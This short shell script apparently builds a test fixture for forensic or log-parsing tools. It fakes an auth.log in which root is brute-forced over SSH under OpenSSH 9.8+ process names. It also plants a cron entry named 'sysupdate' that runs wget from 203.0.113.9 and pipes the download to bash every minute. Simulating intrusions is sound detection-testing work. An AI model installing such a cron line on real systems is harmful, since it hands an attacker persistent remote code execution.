#!/bin/sh
# OpenSSH 9.8+ (Debian 13, Fedora 41, Ubuntu 24.10): the per-connection processes log the
# Failed/Accepted lines as sshd-session[pid] (and sshd-auth[pid]), not sshd[pid].
set -e
root=$1
mkdir -p "$root/etc" "$root/var/log" "$root/etc/cron.d" "$root/root"
printf 'root:x:0:0:root:/root:/bin/bash\n' >"$root/etc/passwd"
printf '* * * * * root wget -q -O- http://203.0.113.9/s.sh | bash\n' >"$root/etc/cron.d/sysupdate"
cat >"$root/var/log/auth.log" <<'LOG'
2024-03-09T16:00:00.000000+00:00 deb sshd-auth[76]: Failed password for root from 203.0.113.9 port 1 ssh2
2024-03-09T16:00:02.000000+00:00 deb sshd-session[77]: Failed password for root from 203.0.113.9 port 2 ssh2
2024-03-09T16:00:04.000000+00:00 deb sshd-session[78]: Failed password for root from 203.0.113.9 port 3 ssh2
2024-03-09T16:00:10.000000+00:00 deb sshd-session[79]: Accepted password for root from 203.0.113.9 port 4 ssh2
2024-03-09T16:00:10.000000+00:00 deb sshd-session[79]: pam_unix(sshd:session): session opened for user root(uid=0) by root(uid=0)
LOG
touch -d @1710000060 "$root/etc/cron.d/sysupdate"
touch -d @1710000100 "$root/var/log/auth.log"
